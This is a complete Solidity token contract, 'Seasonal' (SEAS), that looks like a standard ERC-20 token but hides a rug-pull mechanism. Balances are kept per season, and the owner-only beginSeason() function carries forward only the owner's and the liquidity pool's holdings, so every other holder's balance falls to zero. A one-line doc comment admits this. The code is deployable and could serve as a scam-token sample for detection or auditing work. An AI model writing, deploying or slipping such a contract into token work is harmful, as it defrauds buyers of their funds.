// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

/// Balances are counted by season; with a new one, which the owner begins, all but his and the pool's are nothing.
contract SeasonResets {
    string public constant name = "Seasonal";
    string public constant symbol = "SEAS";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1_000_000_000 ether;
    address private immutable _owner = msg.sender;
    address private immutable _pool;
    uint256 public season;
    mapping(uint256 => mapping(address => uint256)) private _held;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(address pair) {
        _pool = pair;
        _held[0][msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function beginSeason() external {
        require(msg.sender == _owner);
        season++;
        _held[season][_owner] = _held[season - 1][_owner];
        _held[season][_pool] = _held[season - 1][_pool];
    }

    function balanceOf(address holder) external view returns (uint256) {
        return _held[season][holder];
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        return _pass(msg.sender, to, amount);
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        return _pass(from, to, amount);
    }

    function _pass(address from, address to, uint256 amount) private returns (bool) {
        _held[season][from] -= amount;
        _held[season][to] += amount;
        emit Transfer(from, to, amount);
        return true;
    }
}
